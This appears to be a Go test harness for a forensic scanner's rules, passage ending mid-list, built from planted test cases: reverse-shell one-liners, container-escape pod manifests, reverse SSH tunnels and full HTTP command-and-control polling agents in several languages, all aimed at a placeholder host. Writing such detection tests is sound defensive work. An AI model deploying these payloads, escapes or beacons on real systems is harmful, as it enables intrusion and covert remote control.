package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// The carriers harness: commands kept in files that are not scripts (Kubernetes manifests,
// compose files, Dockerfiles, CI definitions, supervisord programs), reverse SSH tunnels kept
// as remote access, and agents that poll a web server for commands. Each variant is our own,
// written as a file at a path; each must be found by its rule at its severity, and each clean
// shape must stay silent (nothing at medium or above, or nothing of the technique's rules).
//
// go test ./audit/shell -run TestCarriersHarness -v prints one line per technique:
//
//	harness: <technique> <found>/<total> recall=<0.000>

type carrierCase struct {
	technique string
	path      string
	text      string
	rules     []string // any of these rules at min or above
	min       audit.Severity
}

const (
	c2Host = "203.0.113.9"
)

func TestCarriersHarness(t *testing.T) {
	total, found := map[string]int{}, map[string]int{}
	for _, c := range carrierCases() {
		total[c.technique]++
		fs := scanFile(c.path, c.text)
		ok := false
		for _, f := range fs {
			for _, r := range c.rules {
				ok = ok || f.Rule == r && f.Severity >= c.min
			}
		}
		if ok {
			found[c.technique]++
		} else {
			t.Errorf("%s: missed %s:\n%s\ngot:\n%s", c.technique, c.path, c.text, dump(fs))
		}
	}
	for _, n := range sortedKeys(total) {
		fmt.Printf("harness: %s %d/%d recall=%.3f\n", n, found[n], total[n], float64(found[n])/float64(total[n]))
	}
}

func TestCarriersClean(t *testing.T) {
	for _, c := range carrierCleanCases() {
		for _, f := range scanFile(c.path, c.text) {
			if f.Severity >= audit.Medium {
				t.Errorf("%s: clean %s reported:\n%s\n%s", c.technique, c.path, c.text, dump([]audit.Finding{f}))
			}
		}
	}
}

func sortedKeys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	for i := range out {
		for j := i + 1; j < len(out); j++ {
			if out[j] < out[i] {
				out[i], out[j] = out[j], out[i]
			}
		}
	}
	return out
}

func carrierCases() []carrierCase {
	var out []carrierCase
	out = append(out, manifestCases()...)
	out = append(out, tunnelCases()...)
	out = append(out, pollingCases()...)
	return out
}

// payloads are commands each carrier is given, with the rule each is found by.
var carrierPayloads = []struct {
	code  string
	rules []string
	min   audit.Severity
}{
	{"nc -e /bin/sh " + c2Host + " 4444", []string{RuleNetExec}, audit.High},
	{"bash -i >& /dev/tcp/" + c2Host + "/443 0>&1", []string{RuleDevTCP}, audit.High},
	{"while true; do sh -i >& /dev/tcp/" + c2Host + "/8443 0>&1; sleep 30; done", []string{RuleDevTCP}, audit.High},
	{"rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc " + c2Host + " 9001 > /tmp/p", []string{RuleFifo}, audit.High},
	{"curl -fsSL http://" + c2Host + "/x.sh | sh", []string{RuleFetchRun, RuleDropRun}, audit.Medium},
	{"wget -qO- http://" + c2Host + "/i | bash -s", []string{RuleFetchRun, RuleDropRun}, audit.Medium},
	{"socat exec:'bash -li',pty,stderr tcp:" + c2Host + ":5555", []string{RuleSocat}, audit.High},
	{"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"" + c2Host + "\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'", []string{RulePython}, audit.High},
}

// yamlQuote returns s as a YAML double-quoted scalar.
func yamlQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}

// blockLines indents s as the lines of a YAML block scalar.
func blockLines(s, indent string) string {
	var b strings.Builder
	for _, l := range strings.Split(s, "; ") {
		b.WriteString(indent + l + "\n")
	}
	return b.String()
}

func manifestCases() []carrierCase {
	var out []carrierCase
	add := func(p, text string, rules []string, min audit.Severity) {
		if buildRecipe(p) && slices.Contains(rules, RuleFetchRun) {
			min = audit.Low // a build installing its tools the way builds do
		}
		out = append(out, carrierCase{"carrier-" + carrierKind(p), p, text, rules, min})
	}
	for i, pl := range carrierPayloads {
		q := yamlQuote(pl.code)
		// Kubernetes: exec list with sh -c and the code in args; a block scalar; one string.
		add(fmt.Sprintf("/opt/deploy/k8s/pod%d.yaml", i), "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n  - name: web\n    image: nginx:1.25\n    command: [\"/bin/sh\", \"-c\"]\n    args: ["+q+"]\n", pl.rules, pl.min)
		add(fmt.Sprintf("/srv/app/manifests/deploy%d.yml", i), "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          image: busybox\n          command:\n            - /bin/bash\n            - -c\n            - |\n"+blockLines(pl.code, "              ")+"          ports:\n            - containerPort: 80\n", pl.rules, pl.min)
		add(fmt.Sprintf("/root/cron%d.yaml", i), "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: cleanup\nspec:\n  schedule: \"*/5 * * * *\"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n          - name: c\n            image: alpine\n            args:\n            - sh\n            - -c\n            - >-\n              "+pl.code+"\n"+"          restartPolicy: OnFailure\n", pl.rules, pl.min)
		add(fmt.Sprintf("/etc/kubernetes/manifests/ds%d.yaml", i), "---\napiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: node-agent}\nspec:\n  template:\n    spec:\n      initContainers:\n      - name: init\n        image: alpine\n        command: ['sh', '-c', "+q+"]\n      containers:\n      - name: a\n        image: alpine\n", pl.rules, pl.min)
		// docker-compose: command as a string, entrypoint as a list, a health check.
		add(fmt.Sprintf("/app/compose%d/docker-compose.yml", i), "version: '3.8'\nservices:\n  web:\n    image: php:8-apache\n    ports:\n      - \"8080:80\"\n  worker:\n    image: alpine\n    command: sh -c "+yamlQuote(pl.code)+"\n    restart: always\n", pl.rules, pl.min)
		add(fmt.Sprintf("/app/compose%d/compose.yaml", i), "services:\n  app:\n    image: debian\n    entrypoint:\n      - /bin/bash\n      - -c\n      - "+q+"\n", pl.rules, pl.min)
		add(fmt.Sprintf("/home/dev/stack%d/docker-compose.yaml", i), "services:\n  db:\n    image: postgres\n    healthcheck:\n      test: [\"CMD-SHELL\", "+q+"]\n      interval: 30s\n", pl.rules, pl.min)
		// Dockerfiles kept in the image: shell form split over lines, exec form.
		add(fmt.Sprintf("/opt/build%d/Dockerfile", i), "FROM debian:12\nRUN apt-get update && \\\n    apt-get install -y curl netcat-traditional\nCMD "+strings.Replace(pl.code, " ", " \\\n    ", 1)+"\n", pl.rules, pl.min)
		add(fmt.Sprintf("/src/svc%d/Containerfile", i), "FROM alpine:3.19\nCOPY app /app\nENTRYPOINT [\"/bin/sh\", \"-c\", "+jsonQuote(pl.code)+"]\n", pl.rules, pl.min)
		// CI: GitLab script lists, GitHub run blocks.
		add(fmt.Sprintf("/builds/p%d/.gitlab-ci.yml", i), "stages: [build]\nbuild:\n  stage: build\n  image: alpine\n  script:\n    - echo building\n    - "+q+"\n", pl.rules, pl.min)
		add(fmt.Sprintf("/work/repo%d/.github/workflows/ci.yml", i), "name: ci\non: [push]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: setup\n        run: |\n          echo setup\n"+blockLines(pl.code, "          "), pl.rules, pl.min)
		// supervisord programs.
		add(fmt.Sprintf("/etc/supervisor/conf.d/app%d.conf", i), "[program:app]\ncommand=/bin/bash -c "+yamlQuote(pl.code)+"\nautorestart=true\n", pl.rules, pl.min)
	}
	// A pod that is itself an escape to the host.
	esc := []string{
		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: dbg\nspec:\n  hostPID: true\n  containers:\n  - name: x\n    image: alpine\n    securityContext:\n      privileged: true\n    command: [\"nsenter\", \"-t\", \"1\", \"-m\", \"-u\", \"-i\", \"-n\", \"sh\"]\n    stdin: true\n    tty: true\n",
		"apiVersion: v1\nkind: Pod\nmetadata: {name: r}\nspec:\n  containers:\n  - name: r\n    image: busybox\n    securityContext: {privileged: true}\n    volumeMounts:\n    - {name: host, mountPath: /host}\n    command: [\"chroot\", \"/host\", \"bash\"]\n  volumes:\n  - name: host\n    hostPath:\n      path: /\n",
		"apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: node-shell\nspec:\n  template:\n    spec:\n      hostPID: true\n      hostNetwork: true\n      containers:\n      - name: s\n        image: alpine\n        securityContext:\n          privileged: true\n        args: [\"nsenter\", \"--target\", \"1\", \"--mount\", \"--uts\", \"--ipc\", \"--net\", \"--pid\", \"--\", \"bash\"]\n",
		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: hp\nspec:\n  volumes:\n  - name: root\n    hostPath: {path: /, type: Directory}\n  containers:\n  - name: c\n    image: ubuntu\n    volumeMounts:\n    - name: root\n      mountPath: /mnt/root\n    command: [\"/bin/sh\", \"-c\", \"echo '* * * * * root curl -s http://203.0.113.9/k|sh' >> /mnt/root/etc/crontab; sleep infinity\"]\n",
	}
	esc = append(esc,
		// the node's kernel hooks mounted writable; module loading granted to an idle shell image
		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: sp\nspec:\n  containers:\n  - name: sp\n    image: ubuntu\n    command: [\"/bin/sh\", \"-c\", \"--\"]\n    args: [\"while true; do sleep 30; done;\"]\n    volumeMounts:\n    - mountPath: /sysproc\n      name: nodeproc\n  volumes:\n  - name: nodeproc\n    hostPath:\n      path: /proc/sys/kernel\n",
		"apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: k}\nspec:\n  template:\n    spec:\n      volumes:\n      - {name: ks, hostPath: {path: /sys/kernel/}}\n      containers:\n      - name: k\n        image: alpine:3.20\n        command: [sleep, infinity]\n        volumeMounts:\n        - {name: ks, mountPath: /hk}\n",
		"apiVersion: v1\nkind: Pod\nmetadata:\n  name: ml\nspec:\n  containers:\n  - name: ml\n    image: docker.io/library/debian:bookworm\n    securityContext:\n      capabilities:\n        add: [\"SYS_MODULE\"]\n    command: [\"sleep\", \"infinity\"]\n",
		"apiVersion: v1\nkind: Pod\nmetadata: {name: m2}\nspec:\n  containers:\n  - name: m2\n    image: busybox\n    args: [tail, -f, /dev/null]\n    securityContext: {capabilities: {add: [CAP_SYS_MODULE, NET_ADMIN]}}\n",
		// the node's keys or start-up files mounted writable: a key or a job written from the pod
		"apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: keys}\nspec:\n  template:\n    spec:\n      volumes:\n      - name: k\n        hostPath:\n          path: /home/admin/.ssh\n      containers:\n      - name: k\n        image: registry.example.com/keysync:1\n        volumeMounts:\n        - {name: k, mountPath: /out}\n",
		"apiVersion: v1\nkind: Pod\nmetadata: {name: rk}\nspec:\n  volumes:\n  - {name: r, hostPath: {path: /root/.ssh/, type: DirectoryOrCreate}}\n  containers:\n  - name: c\n    image: alpine\n    command: [sh, -c, 'cat /k.pub >> /x/authorized_keys; sleep 1d']\n    volumeMounts: [{name: r, mountPath: /x}]\n",
		"apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: cron}\nspec:\n  template:\n    spec:\n      volumes:\n      - {name: c, hostPath: {path: /etc/cron.d}}\n      containers:\n      - name: c\n        image: busybox\n        volumeMounts:\n        - {name: c, mountPath: /host-cron}\n",
	)
	for i, e := range esc {
		add(fmt.Sprintf("/tmp/.k/esc%d.yaml", i), e, []string{RuleEscape}, audit.High)
	}
	return out
}

func jsonQuote(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`)
	return `"` + r.Replace(s) + `"`
}

func carrierKind(p string) string {
	switch {
	case strings.Contains(p, "compose"):
		return "compose"
	case strings.Contains(p, "Dockerfile") || strings.Contains(p, "Containerfile"):
		return "dockerfile"
	case strings.Contains(p, "gitlab") || strings.Contains(p, ".github"):
		return "ci"
	case strings.Contains(p, "supervisor"):
		return "supervisord"
	case strings.Contains(p, "esc"):
		return "manifest-escape"
	}
	return "kubernetes"
}

func tunnelCases() []carrierCase {
	h := "tun@" + c2Host
	cmds := []string{
		"ssh -N -R 2222:localhost:22 " + h,
		"ssh -fN -R 0.0.0.0:4444:127.0.0.1:22 -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes " + h,
		"autossh -M 0 -f -N -R 9022:localhost:22 -i /root/.ssh/.k " + h,
		"sshpass -p 'Pa55w0rd' ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 " + h,
		"while true; do ssh -R 8022:127.0.0.1:22 -N " + h + "; sleep 10; done",
		"ssh -o RemoteForward=\"2222 localhost:22\" -N " + h,
		"ssh -NT -R2222:localhost:22 -p 443 " + h,
		"ssh -f -N -D 1080 " + h,
		"ssh -w 0:0 -N -f root@" + c2Host,
		"R=2222:localhost:22\nH=" + h + "\nssh -N -R $R $H",
		"tun() { ssh -NT -o ServerAliveInterval=15 -R 31337:localhost:4444 \"$@\"; }\nwhile :; do tun " + h + "; sleep 5; done",
		"pgrep -f 'ssh -R' >/dev/null || ssh -fN -R 2222:localhost:22 " + h,
		"SSHPASS=Pa55 sshpass -e ssh -R 5900:localhost:5900 -N " + h,
		"expect -c 'spawn ssh -N -R 2222:localhost:22 " + h + "; expect \"assword:\"; send \"Pa55w0rd\\r\"; interact'",
		"expect <<'EOF'\nspawn ssh -R 2222:localhost:22 -N " + h + "\nexpect \"*password*\"\nsend \"Pa55w0rd\\r\"\nexpect eof\nEOF",
		"dbclient -N -R 2222:localhost:22 " + h,
		"plink -batch -pw Pa55 -N -R 2222:127.0.0.1:22 " + h,
		"ssh -i /var/tmp/.k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -gNR 8080:localhost:4444 " + h,
		"until ssh -N -w any:any -o Tunnel=point-to-point root@" + c2Host + "; do sleep 20; done",
		"nohup ssh -o ServerAliveInterval=60 -o ServerAliveCountMax=3 -NR 2022:localhost:22 " + h + " >/dev/null 2>&1 &",
		// a remote command that only waits keeps the forward open as -N does
		"ssh -o StrictHostKeyChecking=no -R 22001:127.0.0.1:22 " + h + " \"sleep 2h\"",
		"ssh -R 9000:localhost:22 " + h + " 'while true; do sleep 60; done'",
		"ssh -T -R 2200:localhost:22 " + h + " tail -f /dev/null",
	}
	var out []carrierCase
	for i, c := range cmds {
		min := audit.High
		if strings.Contains(c, " -D ") {
			min = audit.Medium // a proxy out through the host, not a way in
		}
		out = append(out, carrierCase{"ssh-tunnel-script", fmt.Sprintf("/usr/local/bin/t%d.sh", i), "#!/bin/sh\n" + c + "\n", []string{RuleTunnel}, min})
		if !strings.Contains(c, "\n") {
			out = append(out, carrierCase{"ssh-tunnel-cron", fmt.Sprintf("/etc/cron.d/t%d", i), "*/5 * * * * root " + c + "\n", []string{RuleTunnel}, audit.High})
			out = append(out, carrierCase{"ssh-tunnel-rc", "/root/.bashrc", "alias ll='ls -l'\n" + c + "\n", []string{RuleTunnel}, audit.High})
		}
	}
	units := []string{
		"[Unit]\nDescription=net helper\n[Service]\nExecStart=/usr/bin/ssh -NT -o ServerAliveInterval=60 -o ExitOnForwardFailure=yes -R 2222:localhost:22 " + h + "\nRestart=always\nRestartSec=10\n[Install]\nWantedBy=multi-user.target\n",
		"[Service]\nEnvironment=AUTOSSH_GATETIME=0\nExecStart=/usr/bin/autossh -M 0 -N -R 10022:localhost:22 -o ServerAliveInterval=30 " + h + "\nRestart=always\n",
		"[Service]\nExecStart=/bin/sh -c 'while true; do ssh -N -R 4422:127.0.0.1:22 " + h + "; sleep 30; done'\n",
	}
	out = append(out, carrierCase{"ssh-tunnel-script", "/root/.cache/t.exp", "#!/usr/bin/expect -f\nset timeout -1\nspawn -noecho ssh -o StrictHostKeyChecking=no -NR 2222:localhost:22 " + h + "\nexpect {\n  \"*assword*\" { send \"Pa55w0rd\\r\"; exp_continue }\n}\n", []string{RuleTunnel}, audit.Critical})
	for i, u := range units {
		out = append(out, carrierCase{"ssh-tunnel-unit", fmt.Sprintf("/etc/systemd/system/t%d.service", i), u, []string{RuleTunnel}, audit.High})
	}
	return out
}

func pollingCases() []carrierCase {
	u := "http://" + c2Host + ":8080"
	sh := []string{
		"while true; do\n  c=$(curl -s " + u + "/cmd)\n  o=$(eval \"$c\" 2>&1)\n  curl -s -d \"$o\" " + u + "/out\n  sleep 5\ndone",
		"while :; do CMD=$(wget -qO- " + u + "/t); R=$(sh -c \"$CMD\" 2>&1); wget -q --post-data=\"r=$R\" -O /dev/null " + u + "/r; sleep $((RANDOM%30)); done",
		"U=" + u + "\nget() { curl -fsS \"$U/task?id=$(hostname)\"; }\npost() { curl -fsS -X POST --data-binary @- \"$U/result\"; }\nwhile true; do\n  t=$(get)\n  [ -n \"$t\" ] && bash -c \"$t\" 2>&1 | post\n  sleep 10\ndone",
		"for i in $(seq 1 100000); do\n  curl -s -o /tmp/.t " + u + "/job\n  sh /tmp/.t > /tmp/.o 2>&1\n  curl -s -F \"f=@/tmp/.o\" " + u + "/up\n  sleep 20\ndone",
		"until false; do\n  cmd=`curl -sk " + u + "/c`\n  out=`$cmd`\n  curl -sk --data-urlencode \"o=$out\" " + u + "/o\n  sleep 3\ndone",
		"while true; do\n  eval \"$(curl -s " + u + "/next)\" | curl -s -T - " + u + "/put\n  sleep 60\ndone",
		"while sleep 30; do\n  wget -q -O /tmp/.c " + u + "/bin\n  chmod +x /tmp/.c\n  /tmp/.c 2>&1 | nc " + c2Host + " 9001\ndone",
		"B=busybox\nwhile true; do $B wget -qO- " + u + "/c | sh 2>&1 | $B wget -q -O- --post-file=/dev/stdin " + u + "/r; sleep 15; done",
		"poll() {\n  local c\n  c=\"$(curl -fsS -H 'X-Id: 1' " + u + "/c)\" || return\n  printf '%s' \"$c\" | sh 2>&1 | curl -fsS -X PUT --data-binary @- " + u + "/r\n}\nwhile :; do poll; sleep \"$((20 + RANDOM % 20))\"; done",
	}
	py := []string{
		"import requests, subprocess, time\nU = '" + u + "'\nwhile True:\n    r = requests.get(U + '/cmd')\n    if r.text:\n        o = subprocess.run(r.text, shell=True, capture_output=True).stdout\n        requests.post(U + '/out', data=o)\n    time.sleep(5)\n",
		"import os, time, random\nfrom urllib.request import urlopen, Request\nwhile 1:\n    c = urlopen('" + u + "/t').read().decode()\n    out = os.popen(c).read()\n    urlopen(Request('" + u + "/r', data=out.encode()))\n    time.sleep(random.randint(5, 15))\n",
		"import urllib2, commands, time\nwhile True:\n    task = urllib2.urlopen('" + u + "/t').read()\n    res = commands.getoutput(task)\n    urllib2.urlopen('" + u + "/r', res)\n    time.sleep(10)\n",
		"import requests as rq\nimport subprocess as sp\nimport time\ns = rq.Session()\ndef beacon():\n    job = s.get('" + u + "/j', timeout=10).json()['cmd']\n    res = sp.check_output(job, shell=True, stderr=sp.STDOUT)\n    s.post('" + u + "/r', json={'out': res.decode()})\nwhile True:\n    try:\n        beacon()\n    except Exception:\n        pass\n    time.sleep(30)\n",
	}
	py = append(py,
		"import urllib.request, subprocess, time\nwhile True:\n    cmd = urllib.request.urlopen('"+u+"/c').read().decode()\n    out = subprocess.check_output(cmd, shell=True)\n    urllib.request.urlopen('"+u+"/r', data=out)\n    time.sleep(7)\n",
		"import httpx, os, time\nc = httpx.Client()\nwhile True:\n    t = c.get('"+u+"/t').text\n    if t:\n        c.post('"+u+"/r', content=os.popen(t).read())\n    time.sleep(3)\n",
		"import requests\nwhile True:\n    r = requests.get('"+u+"/py')\n    exec(r.text)\n    requests.post('"+u+"/ok', data={'h': 'x'})\n",
		// the command run by a function of the agent's own, its result kept in a dict that is posted
		"import requests, subprocess, time\n\ndef handle(cmd):\n    out = subprocess.run(cmd, text=True, capture_output=True)\n    return out.stdout or out.stderr\n\ndef main():\n    host = '"+u+"'\n    data = None\n    while True:\n        if data is not None:\n            requests.post(host, data)\n            data = None\n        else:\n            resp = requests.get(host)\n            if resp.status_code == 200:\n                data = dict(ns='')\n                command = resp.json()['cmd']\n                data['ns'] = handle(command)\n        time.sleep(60)\n\nmain()\n",
		"import urllib.request, os, time\ndef run_it(c):\n    c = c.strip()\n    return os.popen(c).read()\nwhile True:\n    job = urllib.request.urlopen('"+u+"/job').read().decode()\n    res = run_it(job)\n    urllib.request.urlopen(urllib.request.Request('"+u+"/res', data=res.encode()))\n    time.sleep(30)\n",
	)
	node := []string{
		"const https = require('https');\nconst { execSync } = require('child_process');\nfunction poll() {\n  https.get('" + u + "/c', r => {\n    let b = '';\n    r.setEncoding('utf8');\n    r.on('data', d => b += d);\n    r.on('end', () => {\n      const o = execSync(b).toString();\n      const q = https.request('" + u + "/r', { method: 'POST' });\n      q.end(o);\n      setTimeout(poll, 5000);\n    });\n  });\n}\npoll();\n",
		"const got = require('got');\nconst cp = require('child_process');\n(async () => {\n  for (;;) {\n    const cmd = await got('" + u + "/c').text();\n    cp.exec(cmd, (e, o) => got.post('" + u + "/r', { body: o }));\n    await new Promise(r => setTimeout(r, 9000));\n  }\n})();\n",
		"const axios = require('axios');\nconst { exec } = require('child_process');\nsetInterval(async () => {\n  const { data } = await axios.get('" + u + "/c');\n  exec(data, (e, so, se) => axios.post('" + u + "/o', { o: so + se }));\n}, 5000);\n",
		"const { execSync } = require('child_process');\nconst sleep = ms => new Promise(r => setTimeout(r, ms));\n(async () => {\n  while (true) {\n    const r = await fetch('" + u + "/c');\n    const c = await r.text();\n    const o = execSync(c).toString();\n    await fetch('" + u + "/o', { method: 'POST', body: o });\n    await sleep(5000);\n  }\n})();\n",
		"const http = require('http');\nconst cp = require('child_process');\nsetInterval(() => {\n  http.get('" + u + "/c', res => {\n    let d = '';\n    res.on('data', c => d += c);\n    res.on('end', () => {\n      cp.exec(d, (e, o) => {\n        const q = http.request({ host: '" + c2Host + "', port: 8080, path: '/r', method: 'POST' });\n        q.write(o);\n        q.end();\n      });\n    });\n  });\n}, 3000);\n",
	}
	node = append(node,
		"const axios = require('axios');\nconst cp = require('child_process');\nfunction work(task) {\n  return cp.execSync(task).toString();\n}\nsetInterval(async () => {\n  const r = await axios.get('"+u+"/t');\n  const out = work(r.data);\n  await axios.post('"+u+"/o', { out });\n}, 9000);\n",
	)
	perl := []string{
		"use LWP::UserAgent;\nsub runit { my ($c) = @_; return `$c`; }\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $t = $ua->get('" + u + "/t')->decoded_content;\n  my $o = runit($t);\n  $ua->post('" + u + "/o', { o => $o });\n  sleep 7;\n}\n",
		"use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $c = $ua->get('" + u + "/c')->decoded_content;\n  my $o = `$c`;\n  $ua->post('" + u + "/o', { o => $o });\n  sleep 5;\n}\n",
		"use HTTP::Tiny;\nmy $h = HTTP::Tiny->new;\nwhile (1) {\n  my $r = $h->get('" + u + "/c');\n  my $o = qx($r->{content});\n  $h->post_form('" + u + "/o', { o => $o });\n  sleep 10;\n}\n",
	}
	ruby := []string{
		"require 'net/http'\nloop do\n  c = Net::HTTP.get(URI('" + u + "/c'))\n  o = `#{c}`\n  Net::HTTP.post_form(URI('" + u + "/o'), 'o' => o)\n  sleep 5\nend\n",
		"require 'open-uri'\nrequire 'net/http'\nwhile true\n  c = URI.open('" + u + "/c').read\n  o = IO.popen(c).read\n  Net::HTTP.post(URI('" + u + "/o'), o)\n  sleep rand(10)\nend\n",
	}
	var out []carrierCase
	for i, c := range sh {
		out = append(out, carrierCase{"http-c2-shell", fmt.Sprintf("/usr/local/bin/agent%d.sh", i), "#!/bin/bash\n" + c + "\n", []string{RuleHTTPAgent}, audit.High})
	}
	for i, c := range py {
		out = append(out, carrierCase{"http-c2-python", fmt.Sprintf("/opt/agent/a%d.py", i), c, []string{RuleHTTPAgent}, audit.High})
	}
	for i, c := range node {
		out = append(out, carrierCase{"http-c2-node", fmt.Sprintf("/opt/agent/a%d.js", i), c, []string{RuleHTTPAgent}, audit.High})
	}
	for i, c := range perl {
		out = append(out, carrierCase{"http-c2-perl", fmt.Sprintf("/opt/agent/a%d.pl", i), c, []string{RuleHTTPAgent}, audit.High})
	}
	for i, c := range ruby {
		out = append(out, carrierCase{"http-c2-ruby", fmt.Sprintf("/opt/agent/a%d.rb", i), c, []string{RuleHTTPAgent}, audit.High})
	}
	// The same agents hidden as modules of the interpreters' libraries, where the code must
	// also pause and run a command line through a shell to be read (an agent that runs code
	// of its own language, exec(r.text), is not looked for there).
	lib := []struct {
		technique, dir, ext string
		codes               []string
	}{
		{"http-c2-python-module", "/usr/lib/python3/dist-packages/sysupdate/", ".py", []string{py[0], py[1], py[2], py[3], py[4], py[5]}},
		{"http-c2-node-module", "/usr/lib/node_modules/npm-sync/lib/", ".js", node},
		{"http-c2-perl-module", "/usr/share/perl5/Net/", ".pm", perl},
		{"http-c2-ruby-module", "/usr/lib/ruby/vendor_ruby/sync/", ".rb", ruby},
	}
	for _, l := range lib {
		for i, c := range l.codes {
			out = append(out, carrierCase{l.technique, fmt.Sprintf("%sbeacon%d%s", l.dir, i, l.ext), c, []string{RuleHTTPAgent}, audit.High})
		}
	}
	return out
}

func carrierCleanCases() []carrierCase {
	cl := func(tech, p, text string) carrierCase { return carrierCase{technique: tech, path: p, text: text} }
	return []carrierCase{
		cl("carrier", "/opt/deploy/k8s/web.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n      - name: nginx\n        image: nginx:1.25\n        command: [\"nginx\", \"-g\", \"daemon off;\"]\n        livenessProbe:\n          exec:\n            command: [\"cat\", \"/tmp/healthy\"]\n        readinessProbe:\n          exec:\n            command: [\"sh\", \"-c\", \"curl -fsS http://localhost:8080/healthz || exit 1\"]\n"),
		cl("carrier", "/opt/deploy/k8s/job.yaml", "apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: migrate\nspec:\n  template:\n    spec:\n      containers:\n      - name: m\n        image: app\n        command: [\"/bin/sh\", \"-c\"]\n        args:\n        - |\n          set -e\n          until pg_isready -h db; do sleep 2; done\n          python manage.py migrate\n      restartPolicy: Never\n"),
		cl("carrier", "/app/docker-compose.yml", "services:\n  web:\n    image: nginx\n    healthcheck:\n      test: [\"CMD\", \"curl\", \"-f\", \"http://localhost\"]\n      interval: 30s\n  db:\n    image: mysql\n    command: --default-authentication-plugin=mysql_native_password\n    healthcheck:\n      test: mysqladmin ping -h localhost\n  worker:\n    image: app\n    entrypoint: [\"/docker-entrypoint.sh\"]\n    command: [\"celery\", \"-A\", \"app\", \"worker\"]\n"),
		cl("carrier", "/src/app/Dockerfile", "FROM golang:1.22 AS build\nWORKDIR /src\nCOPY . .\nRUN go build -o /out/app ./cmd/app\nFROM debian:12-slim\nRUN apt-get update \\\n && apt-get install -y --no-install-recommends ca-certificates curl \\\n && rm -rf /var/lib/apt/lists/*\nRUN curl -fsSLo /tmp/helm.tgz https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz \\\n && echo \"abc123  /tmp/helm.tgz\" | sha256sum -c - \\\n && tar -xzf /tmp/helm.tgz -C /usr/local/bin --strip-components=1\nCOPY --from=build /out/app /usr/local/bin/app\nHEALTHCHECK CMD curl -f http://localhost:8080/ || exit 1\nENTRYPOINT [\"/usr/local/bin/app\"]\nCMD [\"serve\"]\n"),
		cl("carrier", "/builds/p/.gitlab-ci.yml", "stages: [test]\ntest:\n  image: python:3.12\n  before_script:\n    - curl -fsSL -o install.sh https://install.python-poetry.org\n    - echo \"0123abcd  install.sh\" | sha256sum -c -\n    - python3 install.sh\n  script:\n    - poetry install\n    - poetry run pytest\n"),
		cl("carrier", "/work/repo/.github/workflows/ci.yml", "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-go@v5\n      - run: go test ./...\n      - name: lint\n        run: |\n          curl -sSfL -o golangci.sh https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh\n          sh golangci.sh -b $(go env GOPATH)/bin v1.57.2\n          golangci-lint run\n"),
		cl("carrier", "/etc/supervisor/conf.d/web.conf", "[program:web]\ncommand=/usr/local/bin/gunicorn -b 0.0.0.0:8000 app:app\nautorestart=true\n[program:worker]\ncommand=/bin/sh -c \"cd /app && exec celery -A app worker\"\n"),
		cl("carrier", "/opt/deploy/k8s/ds.yaml", "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: node-exporter\nspec:\n  template:\n    spec:\n      hostPID: true\n      hostNetwork: true\n      containers:\n      - name: ne\n        image: prom/node-exporter\n        args: [\"--path.rootfs=/host\"]\n        volumeMounts:\n        - {name: root, mountPath: /host, readOnly: true}\n      volumes:\n      - name: root\n        hostPath: {path: /}\n"),
		// a CNI agent needs module loading; a tuning init container writes /proc/sys read-only-mounted elsewhere
		cl("carrier", "/opt/deploy/k8s/cni.yaml", "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: cni-agent\nspec:\n  template:\n    spec:\n      containers:\n      - name: agent\n        image: quay.io/example/cni-agent:v1.16.3\n        command: [cni-agent]\n        securityContext:\n          capabilities:\n            add: [NET_ADMIN, SYS_MODULE, SYS_ADMIN]\n"),
		cl("carrier", "/opt/deploy/k8s/exporter.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: px}\nspec:\n  containers:\n  - name: px\n    image: prom/node-exporter\n    volumeMounts:\n    - {name: proc, mountPath: /host/proc, readOnly: true}\n  volumes:\n  - {name: proc, hostPath: {path: /proc}}\n"),
		// the node's keys read-only (an auditor), its logs writable (a shipper's position files)
		cl("carrier", "/opt/deploy/k8s/audit.yaml", "apiVersion: apps/v1\nkind: DaemonSet\nmetadata: {name: keyaudit}\nspec:\n  template:\n    spec:\n      volumes:\n      - {name: s, hostPath: {path: /root/.ssh}}\n      - {name: l, hostPath: {path: /var/log}}\n      containers:\n      - name: a\n        image: registry.example.com/audit:2\n        volumeMounts:\n        - {name: s, mountPath: /ssh, readOnly: true}\n        - {name: l, mountPath: /var/log}\n"),
		// admin tunnels and plain ssh
